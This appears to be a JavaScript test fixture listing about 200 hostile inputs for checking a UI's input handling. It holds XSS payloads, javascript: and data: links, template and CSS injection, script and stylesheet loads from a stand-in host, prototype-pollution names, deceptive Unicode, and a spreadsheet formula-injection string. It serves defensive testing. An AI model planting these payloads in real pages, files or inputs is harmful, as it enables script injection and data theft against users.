// Texts that try to become more than text: markup, links, templates, styles, names of properties, marks and directions.

/** What shows that a text was run: a dialog of its number, or a request to a host that is not there. */
const run = (n) => `alert(${n})`;
const elsewhere = (n) => `http://elsewhere.invalid/${n}`;

const handled = [
  ...['img src=x onerror', 'svg onload', 'body onload', 'video src=x onerror', 'audio src onerror'],
  ...['input autofocus onfocus', 'select autofocus onfocus', 'textarea autofocus onfocus'],
  ...['details open ontoggle', 'marquee onstart', 'object data=x onerror', 'iframe onload'],
  ...['p onmouseover', 'div onpointerenter', 'a onclick', 'button onclick', 'form onsubmit'],
  ...['x onanimationstart', 'x tabindex=1 onfocusin', 'dialog open onclose', 'link rel=x onerror'],
  ...[
    'style onload',
    'script src=x onerror',
    'math onclick',
    'IMG SRC=x ONERROR',
    'img/src=x/onerror',
  ],
  ...['perf-goal-card onclick', 'slot onslotchange', 'svg><animate onbegin', 'svg><set onbegin'],
  ...[
    'bdi onclick',
    'td onclick',
    'option onclick',
    'label onclick',
    'summary onclick',
    'li onclick',
  ],
  ...[
    'svg/onload',
    'svg\tonload',
    'svg\nonload',
    'svg\fonload',
    'img src=x onerror\n',
    'img src=x OnErRoR',
  ],
  ...['image src=x onerror', 'embed onload', 'source onerror', 'track onerror', 'br onwheel'],
].map((head) => (n) => `<${head}=${run(n)}>`);

const whole = [
  (n) => `<script>${run(n)}</script>`,
  (n) => `<SCRIPT SRC=${elsewhere(n)}></SCRIPT>`,
  (n) => `<scr<script>ipt>${run(n)}</scr</script>ipt>`,
  (n) => `<svg><script>${run(n)}</script></svg>`,
  (n) => `<template><script>${run(n)}</script></template>`,
  (n) => `<template shadowrootmode=open><img src=x onerror=${run(n)}></template>`,
  (n) => `<iframe srcdoc="<script>parent.${run(n)}</script>"></iframe>`,
  (n) => `<iframe src="javascript:${run(n)}"></iframe>`,
  (n) => `<object data="data:text/html,<script>${run(n)}</script>"></object>`,
  (n) => `<embed src="javascript:${run(n)}">`,
  (n) => `<base href="${elsewhere(n)}/">`,
  (n) => `<meta http-equiv=refresh content="0;url=${elsewhere(n)}">`,
  (n) => `<link rel=stylesheet href=${elsewhere(n)}>`,
  (n) => `<style>*{background:url(${elsewhere(n)})}</style>`,
  (n) => `<form action="javascript:${run(n)}"><button>${n}</button></form>`,
  (n) => `<button formaction="javascript:${run(n)}">${n}</button>`,
  (n) => `<a href="javascript:${run(n)}">${n}</a>`,
  (n) => `<a href="jav&#x09;ascript:${run(n)}">${n}</a>`,
  (n) => `<svg><a xlink:href="javascript:${run(n)}"><text>${n}</text></a></svg>`,
  (n) => `<math><mi xlink:href="javascript:${run(n)}">${n}</mi></math>`,
  (n) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${run(n)}>#x"/></svg>`,
  (n) => `<img src="${elsewhere(n)}">`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${run(n)}>">`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${run(n)}>`,
  (n) => `&lt;script&gt;${run(n)}&lt;/script&gt;`,
  (n) => `&#60;img src=x onerror=${run(n)}&#62;`,
  (n) => `\uFF1Cscript\uFF1E${run(n)}\uFF1C/script\uFF1E`,
  (n) => `\u003cimg src=x onerror=${run(n)}\u003e \\u003cimg src=x onerror=${run(n)}\\u003e`,
];

const closers = [
  ...['"', "'", '`', '">', "'>", '-->', ']]>', '*/', '</title>', '</textarea>', '</style>'],
  ...['</script>', '</template>', '</select>', '</option>', '</svg>', '</bdi>', '</button>'],
  ...['</slot>', '</noscript>', '</table>', '<!--', '<![CDATA['],
];
const breaking = closers.flatMap((closer) => [
  (n) => `${closer}<img src=x onerror=${run(n)}>`,
  (n) => `${n}${closer} autofocus onfocus=${run(n)} onpointerenter=${run(n)} x=`,
]);

const links = [
  ...['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', 'java\r\nscript:'],
  ...[
    ' javascript:',
    '\u0001javascript:',
    '\u00A0javascript:',
    'javascript\t:',
    'javascript&colon;',
  ],
  ...['&#106;avascript:', '&#x6A;avascript:', '%6aavascript:', 'javascript://%0a', 'vbscript:'],
  ...[
    'VBScript:',
    'data:text/html,<script>',
    'data:text/html;base64,',
    'data:image/svg+xml,<svg onload=',
  ],
  ...['livescript:', 'view-source:javascript:', 'blob:javascript:', 'feed:javascript:', 'file:///'],
  ...[
    'http://elsewhere.invalid/',
    'https://javascript:',
    '//elsewhere.invalid/',
    '\\\\elsewhere\\',
  ],
  ...['[link](javascript:', '<javascript:', 'mailto:a@b?body=javascript:'],
].map((start) => (n) => `${start}${run(n)}`);

const templates = [
  (n) => `{{${run(n)}}}`,
  (n) => `{{constructor.constructor('${run(n)}')()}}`,
  (n) => '${' + run(n) + '}',
  (n) => '`${' + run(n) + '}`',
  (n) => `<%= ${run(n)} %>`,
  (n) => `#{${run(n)}}`,
  (n) => `[[${run(n)}]]`,
  (n) => `<!--?lit$${n}$--><img src=x onerror=${run(n)}>`,
  (n) => `?lit$${n}$ .innerHTML=\${x}`,
  (n) => `{"_$litType$":1,"strings":["<img src=x onerror=${run(n)}>"],"values":[${n}]}`,
  (n) => `v-html="${n}" @click=${run(n)} .innerHTML=${n} ?hidden=${n}`,
  (n) => `{0} {name} %s %d $1 $& ${n}`,
];

const styles = [
  (n) => `red;background:url(${elsewhere(n)})`,
  (n) => `#fff;}*{background:url(${elsewhere(n)})}`,
  (n) => `expression(${run(n)})`,
  (n) => `url(javascript:${run(n)})`,
  (n) => `@import '${elsewhere(n)}';`,
  (n) => `var(--x, url(${elsewhere(n)}))`,
  (n) => `\\65 xpression(${run(n)})/*`,
  (n) => `1;position:fixed;inset:0;z-index:${n}`,
];

const names = [
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'valueOf',
    '__defineGetter__',
  ],
  ...['onclick', 'innerHTML', 'attributes', 'children', 'shadowRoot', 'then', 'undefined'],
].map((name) => () => name);

const marks = [
  (n) => `${n}\u202Egnp.exe\u202C`,
  (n) => `${n}\u202Dleft\u2066isolate without an end`,
  (n) => `${n}\u2067right \u05D0\u05D1\u05D2`,
  (n) => `${n} ze\u200Bro\u2060wi\uFEFFdth`,
  (n) => `${n} ${'e' + '\u0301'.repeat(10_000)}`,
  (n) => `${n} ${'Z\u0335\u0321\u0351\u034C\u0307\u0344'.repeat(40)}`,
  (n) => `${n} \u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466} \u{1F3F4}\u{E0067}\u{E007F}`,
  (n) => `${n} \u0410nna \u0430dmin`,
  (n) => `${n} \uD83D half \uDC00`,
  (n) => `${n}\u2028line\u2029paragraph\u0085next`,
  (n) => `${n}\u0000nul\u001B[31m\u0007`,
  (n) => `${n}${'W'.repeat(12_000)}`,
  (n) => `${n}${'\u0645\u062D\u0645\u062F'.repeat(500)}`,
  (n) => `=cmd|' /C calc'!A${n}`,
];

const all = [
  ...handled,
  ...whole,
  ...breaking,
  ...links,
  ...templates,
  ...styles,
  ...names,
  ...marks,
];

/** All of them, each with its number in it where it can. There are 200. */
export const hostileTexts = all.map((text, n) => text(n + 1000));

/** Ids that people and imports may give: whatever is visible, quotes, brackets and names of properties among them. */
export const hostileIds = [
  ...['__proto__', 'constructor', 'toString', 'valueOf', 'hasOwnProperty', 'prototype', 'then'],
  ...['length', 'attributes', 'children', 'shadowRoot', 'onclick', '"]', "']", '#', '.', '*', '\\'],
  ...['<svg/onload=alert(1)>', '"><img/src=x/onerror=alert(2)>', 'javascript:alert(3)'],
  ...['${alert(4)}', '{{alert(5)}}', '0', '-1', 'null', 'undefined', ':host', '>', '][x="'],
  ...['a|b', 'a/b', 'a,b', 'a:b', '%00', '&quot;', '`', '$', '()', '{}', '@', '!', '~', '+', '--'],
];
